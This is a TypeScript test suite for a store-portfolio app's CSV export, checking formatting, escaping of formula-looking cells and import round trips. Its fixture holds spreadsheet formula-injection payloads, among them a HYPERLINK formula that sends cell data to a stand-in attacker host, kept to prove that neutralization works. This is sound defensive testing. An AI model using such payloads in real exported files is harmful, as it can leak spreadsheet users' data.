import { parse } from 'csv-parse/sync'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { TEMPLATE_COLUMNS, neutralizeCell, unneutralizeCell } from '../../electron/core/portfolio/csv-columns'
import { storesToCsv as writeRows } from '../../electron/core/portfolio/csv-export'
import { exportRowsOf } from '../../electron/core/portfolio/export-table'
import { inputOf } from '../../electron/core/portfolio/store-service'
import type { StoreService } from '../../electron/core/portfolio/store-service'
import type { Store } from '../../electron/shared/portfolio'
import { storeInputSchema } from '../../electron/shared/store-fields'
import type { StoreInput, StoreInputDraft } from '../../electron/shared/store-fields'
import { storeInput } from '../support/store-input'
import { createTestCore } from '../support/test-core'
import type { TestCore } from '../support/test-core'
import { FakeClock, openTestDatabase } from '../support/test-database'
import type { TestDatabase } from '../support/test-database'


/** Every field filled, with values a spreadsheet would run as formulas or split wrongly. */
const TRICKY: StoreInputDraft[] = [
  {
    clientName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    storeName: '-Sale- "Best", Store',
    country: 'SG',
    sellerShortCode: 'SG10000001',
    sellerId: '1000123456',
    loginEmail: 'seller@acme.com',
    contactName: '@Jane; Tan',
    contactEmail: 'jane@acme.com',
    contactPhone: '+65 6123 4567',
    contactChannel: 'whatsapp',
    omsStoreRef: "'=already quoted",
    ownerKam: '+Aisha',
    tags: ['vip', 'fashion', '=cmd'],
    notes: '=SUM(A1:A9)\r\nsecond line, with "quotes"\n\ttabbed line'
  },
  {
    clientName: 'บริษัท ตัวอย่าง จำกัด',
    storeName: 'ร้านค้า',
    country: 'TH',
    sellerShortCode: null,
    loginEmail: 'owner@example.co.th',
    contactPhone: '-66 2 123 4567',
    tags: [],
    notes: "''+odd apostrophes"
  },
  {
    clientName: 'Kim Co',
    storeName: 'Kim Store',
    country: 'KR',
    sellerShortCode: 'KR10000003'
  }
]

let database: TestDatabase
let clock: FakeClock
let core: TestCore
let stores: StoreService

beforeEach(() => {
  clock = new FakeClock(Date.parse('2026-11-27T02:00:00Z'))
  database = openTestDatabase({ clock })
  core = createTestCore(database, { clock })
  stores = core.stores
})
afterEach(() => database.close())

function createAll(drafts: StoreInputDraft[]): Store[] {
  return drafts.map((d) => stores.create(storeInputSchema.parse(d) as StoreInput))
}

/** The export of these stores, with their records and verdicts read as the app reads them. */
function storesToCsv(list: readonly Store[]): string {
  return writeRows(exportRowsOf(list, { ...core.records, evaluate: core.status.evaluate }, clock.now()), clock.now())
}

function cellsOf(content: string): string[][] {
  return parse(content.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][]
}

describe('CSV export', () => {
  it('writes a BOM, CRLF line endings, the template columns and the read-only status and dates', () => {
    const store = stores.create(storeInput({ tags: ['vip', 'fashion'] }))
    clock.advance(60_000)
    stores.archive(store.id)
    const out = storesToCsv([core.detail(store.id).store])
    expect(out.startsWith('\uFEFF')).toBe(true)
    expect(out.endsWith('\r\n')).toBe(true)
    expect(out.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
    const [header, row] = cellsOf(out)
    expect(header).toEqual([...TEMPLATE_COLUMNS, 'status', 'status_label', 'status_reason', 'deadline', 'days_left', 'next_step', 'created_at', 'updated_at'])
    const cell = (name: string) => row![header!.indexOf(name)]
    expect(cell('client_name')).toBe('Acme Pte Ltd')
    expect(cell('seller_short_code')).toBe('SG10000001')
    expect(cell('login_email')).toBe('')
    expect(cell('tags')).toBe('vip|fashion')
    expect(cell('status')).toBe('archived')
    expect(cell('created_at')).toBe('2026-11-27T02:00:00.000Z')
    expect(cell('updated_at')).toBe('2026-11-27T02:01:00.000Z')
  })

  it('writes only the header for an empty view', () => {
    expect(cellsOf(storesToCsv([]))).toHaveLength(1)
  })

  it('neutralizes every cell a spreadsheet would run as a formula', () => {
    const [tricky] = createAll(TRICKY.slice(0, 1))
    const [header, row] = cellsOf(storesToCsv([tricky!]))
    const cell = (name: string) => row![header!.indexOf(name)]
    expect(cell('client_name')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
    expect(cell('store_name')).toBe(`'-Sale- "Best", Store`)
    expect(cell('contact_name')).toBe("'@Jane; Tan")
    expect(cell('contact_phone')).toBe("'+65 6123 4567")
    expect(cell('owner_kam')).toBe("'+Aisha")
    expect(cell('oms_store_ref')).toBe("''=already quoted")
    expect(cell('notes')!.startsWith("'=SUM(A1:A9)")).toBe(true)
    expect(cell('tags')).toBe('vip|fashion|=cmd') // starts with "v": harmless
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('neutralizes and restores any value exactly', () => {
    for (const value of ['=1+1', '+65', '-x', '@a', '\tx', '\rx', "'=a", "''@b", "'plain", 'plain', '', "'"]) {
      expect(neutralizeCell(value)).not.toMatch(/^[=+\-@\t\r]/)
      expect(unneutralizeCell(neutralizeCell(value))).toBe(value)
    }
  })

  it('round-trips through import: every field comes back, formula-looking values included', async () => {
    const originals = createAll(TRICKY)
    const exported = storesToCsv(originals)

    const other = openTestDatabase({ clock })
    try {
      const otherCore = createTestCore(other, { clock })
      const imports = otherCore.imports
      const preview = await imports.preview({ requestId: 'r', fileName: 'export.csv', bytes: new TextEncoder().encode(exported) }, () => {})
      expect(preview.fileProblems).toEqual([])
      expect(preview.ignoredColumns).toEqual([]) // status, created_at, updated_at are ignored silently
      expect(preview.problems.filter((p) => p.severity === 'error')).toEqual([])
      expect(preview.outOfScopeCount).toBe(1)
      expect(await imports.commit({ previewId: preview.previewId, defaultConflictAction: 'skip', conflictActions: {} }, () => {})).toEqual({
        created: 3,
        updated: 0,
        skipped: 0,
        outOfScope: 1,
        skippedWithErrors: 0
      })
      for (const original of originals) {
        const copy = otherCore.stores.findByKey(original)
        expect(copy).toBeDefined()
        expect(inputOf(copy!)).toEqual(inputOf(original))
      }
    } finally {
      other.close()
    }

    // Importing the export into the portfolio it came from changes nothing.
    const again = await core.imports.preview({ requestId: 'r', fileName: 'export.csv', bytes: new TextEncoder().encode(exported) }, () => {})
    expect(again.conflictCount).toBe(3)
    expect(again.conflicts.every((c) => c.changes.length === 0)).toBe(true)
  })
})
